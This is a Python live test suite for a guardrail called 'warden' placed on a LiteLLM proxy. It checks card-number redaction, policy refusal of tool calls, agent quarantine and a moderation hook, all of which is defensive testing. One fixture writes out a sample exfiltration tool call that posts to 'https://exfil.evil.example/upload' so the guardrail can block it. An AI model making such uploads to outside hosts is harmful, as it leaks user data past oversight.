"""The real LiteLLM proxy (``litellm --config``) with warden's guardrail, mocked models and the
running warden services: redaction before the model, tool calls refused with warden's reason, a
quarantine reaching the proxy within a second, every call mirrored."""

from __future__ import annotations

import asyncio
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import time
import uuid
from typing import Any, Iterator

import httpx
import pytest
from live import RUN, TENANT, env, expect, poll, quarantine, set_policy

pytestmark = [pytest.mark.live, pytest.mark.litellm]

HERE = pathlib.Path(__file__).resolve().parent / "litellm_proxy"
MASTER_KEY = f"sk-warden-test-{uuid.uuid4().hex}"
CARD = "4111 1111 1111 1111"


class Proxy:
    def __init__(self, url: str, records: pathlib.Path, log: pathlib.Path) -> None:
        self.url = url
        self.records = records
        self.log = log
        self.http = httpx.Client(base_url=url, headers={"authorization": f"Bearer {MASTER_KEY}"}, timeout=30.0)

    def chat(self, model: str, messages: list[dict[str, Any]], agent: str, session: str) -> httpx.Response:
        return self.http.post(
            "/chat/completions",
            json={"model": model, "messages": messages, "metadata": {"warden_agent_id": agent, "warden_session_id": session}},
        )

    def model_input(self, call_id: str, timeout_s: float = 10.0) -> list[dict[str, Any]]:
        """What the mocked model was given for this call (the recorder writes after the response)."""

        def probe() -> list[dict[str, Any]] | None:
            if not self.records.exists():
                return None
            for line in self.records.read_text().splitlines():
                record = json.loads(line)
                if record["call_id"] == call_id:
                    messages: list[dict[str, Any]] = record["input"]
                    return messages
            return None

        found = poll(probe, lambda v: v is not None, timeout_s, f"the recorder's entry for call {call_id}")
        assert found is not None
        return found

    def all_inputs(self) -> str:
        return self.records.read_text() if self.records.exists() else ""


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


@pytest.fixture(scope="module")
def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
    workdir = tmp_path_factory.mktemp("litellm")
    for name in ("config.yaml", "recorder.py"):
        shutil.copy(HERE / name, workdir / name)
    port = free_port()
    records = workdir / "model-inputs.jsonl"
    log = workdir / "proxy.log"
    litellm = pathlib.Path(sys.executable).with_name("litellm")
    child_env = {
        **os.environ,
        "RECORDER_FILE": str(records),
        "LITELLM_MASTER_KEY": MASTER_KEY,
        "WARDEN_LITELLM_AGENT_ID": f"litellm-default-{RUN}",
        "WARDEN_INGEST_API_KEY": os.environ.get("WARDEN_INGEST_API_KEY", env("WARDEN_API_KEY")),
        # Offline: LiteLLM would otherwise fetch its model price map from the internet at start.
        "LITELLM_LOCAL_MODEL_COST_MAP": "True",
        "LITELLM_TELEMETRY": "False",
    }
    with log.open("w") as out:
        child = subprocess.Popen(
            [str(litellm), "--config", str(workdir / "config.yaml"), "--host", "127.0.0.1", "--port", str(port)],
            cwd=workdir,
            env=child_env,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    url = f"http://127.0.0.1:{port}"

    def alive() -> bool | int:
        if child.poll() is not None:
            return child.returncode  # exited: stop polling with its code
        try:
            return httpx.get(f"{url}/health/liveliness", timeout=2).status_code == 200
        except httpx.TransportError:
            return False

    try:
        state = poll(alive, lambda v: v is True or (v is not False and not isinstance(v, bool)), 180, "the LiteLLM proxy to start", 0.5)
        if state is not True:
            raise AssertionError(f"litellm exited with {state}:\n{log.read_text()[-4000:]}")
        yield Proxy(url, records, log)
    except BaseException:
        print(f"---- LiteLLM proxy log (tail) ----\n{log.read_text()[-6000:]}")
        raise
    finally:
        child.terminate()
        try:
            child.wait(15)
        except subprocess.TimeoutExpired:
            child.kill()


def error_of(response: httpx.Response) -> dict[str, Any]:
    body = response.json()
    error: dict[str, Any] = body["error"]
    return error


def test_a_prompt_with_a_card_number_reaches_the_model_redacted(proxy: Proxy) -> None:
    session = f"ll-card-{RUN}"
    messages = [
        {"role": "system", "content": "You are the billing assistant."},
        {"role": "user", "content": f"Charge my card {CARD} for the March invoice."},
    ]
    r = proxy.chat("mock-gpt", messages, f"ll-billing-{RUN}", session)
    assert r.status_code == 200, r.text
    got = proxy.model_input(r.headers["x-litellm-call-id"])
    assert got[0] == messages[0]  # untouched
    assert got[1]["content"] == "Charge my card [REDACTED:pii.payment_card] for the March invoice."
    assert CARD not in proxy.all_inputs()
    expect({"what": "litellm", "session_id": session, "kinds": ["model_request", "model_response"]})


def test_a_card_number_in_the_response_is_redacted_before_the_caller_sees_it(proxy: Proxy) -> None:
    r = proxy.chat("mock-leaky", [{"role": "user", "content": "Which card is on file?"}], f"ll-billing-{RUN}", f"ll-leak-{RUN}")
    assert r.status_code == 200, r.text
    assert r.json()["choices"][0]["message"]["content"] == "The card on file is [REDACTED:pii.payment_card]."


def test_a_streamed_completion_is_checked_whole_and_redacted(proxy: Proxy) -> None:
    body = {
        "model": "mock-leaky",
        "stream": True,
        "messages": [{"role": "user", "content": "Which card is on file?"}],
        "metadata": {"warden_agent_id": f"ll-billing-{RUN}", "warden_session_id": f"ll-stream-{RUN}"},
    }
    text = []
    with proxy.http.stream("POST", "/chat/completions", json=body) as r:
        assert r.status_code == 200
        for line in r.iter_lines():
            if line.startswith("data: ") and line != "data: [DONE]":
                for choice in json.loads(line[6:]).get("choices", []):
                    text.append(choice.get("delta", {}).get("content") or "")
    assert "".join(text) == "The card on file is [REDACTED:pii.payment_card]."


def test_a_tool_call_to_a_destination_outside_the_policy_is_refused_with_wardens_reason(proxy: Proxy) -> None:
    agent = f"ll-uploader-{RUN}"
    set_policy(agent, allowed_destinations=["api.internal.example"])
    marker = f"marker-{uuid.uuid4().hex}"
    history = [
        {"role": "user", "content": f"Upload the report {marker}"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "call_1",
                    "type": "function",
                    "function": {"name": "http_post", "arguments": json.dumps({"url": "https://exfil.evil.example/upload"})},
                }
            ],
        },
        {"role": "tool", "tool_call_id": "call_1", "content": "uploaded"},
    ]
    # The policy travels api -> control topic -> decision endpoint: poll until the proxy refuses.
    r = poll(
        lambda: proxy.chat("mock-gpt", history, agent, f"ll-tool-{RUN}"),
        lambda r: r.status_code != 200,
        30,
        "the policy to reach the guardrail",
        0.2,
    )
    assert r.status_code == 403, r.text
    error = error_of(r)
    assert "policy.destination_not_allowed" in error["message"]
    assert error["provider_specific_fields"]["warden_reasons"] == ["policy.destination_not_allowed"]

    allowed = [dict(m) for m in history]
    allowed[0]["content"] = "Upload the report to the internal API"
    allowed[1] = {
        **history[1],
        "tool_calls": [
            {
                "id": "call_1",
                "type": "function",
                "function": {"name": "http_post", "arguments": json.dumps({"url": "https://api.internal.example/v1"})},
            }
        ],
    }
    ok = proxy.chat("mock-gpt", allowed, agent, f"ll-tool-{RUN}")
    assert ok.status_code == 200, ok.text
    proxy.model_input(ok.headers["x-litellm-call-id"])  # recorded after the refused call was handled
    assert marker not in proxy.all_inputs()  # the refused request never reached the model

    # The model asking for the same destination is refused before the caller gets the tool call.
    asked = proxy.chat("mock-tool-caller", [{"role": "user", "content": "Upload it"}], agent, f"ll-tool-{RUN}")
    assert asked.status_code == 403, asked.text
    assert "warden blocked the response" in error_of(asked)["message"]
    assert "policy.destination_not_allowed" in error_of(asked)["message"]
    expect({"what": "litellm", "session_id": f"ll-tool-{RUN}", "kinds": ["model_request", "tool_call"]})


def test_a_quarantined_agent_is_blocked_within_a_second(proxy: Proxy) -> None:
    agent = f"ll-quarantine-{RUN}"
    messages = [{"role": "user", "content": "status report please"}]
    assert proxy.chat("mock-gpt", messages, agent, f"ll-q-{RUN}").status_code == 200
    started = time.monotonic()
    quarantine(agent)
    r = poll(lambda: proxy.chat("mock-gpt", messages, agent, f"ll-q-{RUN}"), lambda r: r.status_code != 200, 1.0, "the quarantine to reach the proxy", 0.02)
    elapsed_ms = (time.monotonic() - started) * 1000
    print(f"quarantine request to first refused proxy call: {elapsed_ms:.0f} ms")
    assert r.status_code == 403, r.text
    assert "standing.agent_quarantined" in error_of(r)["message"]
    # Other agents keep working.
    assert proxy.chat("mock-gpt", messages, f"ll-other-{RUN}", f"ll-q-{RUN}").status_code == 200


def test_the_during_call_hook_blocks_without_rewriting() -> None:
    """async_moderation_hook as LiteLLM calls it in during_call mode, against the real decision endpoint."""
    from fastapi import HTTPException
    from litellm.proxy._types import UserAPIKeyAuth

    from warden_client.litellm_guardrail import WardenGuardrail

    guard = WardenGuardrail(
        guardrail_name="warden-parallel",
        event_hook="during_call",
        default_on=True,
        api_base=env("WARDEN_URL"),
        api_key=env("WARDEN_API_KEY"),
        warden_ingest_url=env("WARDEN_INGEST_URL"),
        warden_tenant_id=TENANT,
        warden_agent_id=f"ll-parallel-{RUN}",
    )

    async def hook(text: str) -> None:
        data: dict[str, Any] = {"model": "mock-gpt", "messages": [{"role": "user", "content": text}], "metadata": {}}
        await guard.async_moderation_hook(data=data, user_api_key_dict=UserAPIKeyAuth(), call_type="completion")
        assert data["messages"][0]["content"] == text  # during_call never rewrites

    async def run() -> Any:
        await hook("what is the weather")
        with pytest.raises(HTTPException) as info:
            await hook(f"card {CARD}")
        await guard.warden.aclose()
        return info.value

    refused = asyncio.run(run())
    assert refused.status_code == 403 and "redaction needed" in str(refused.detail)
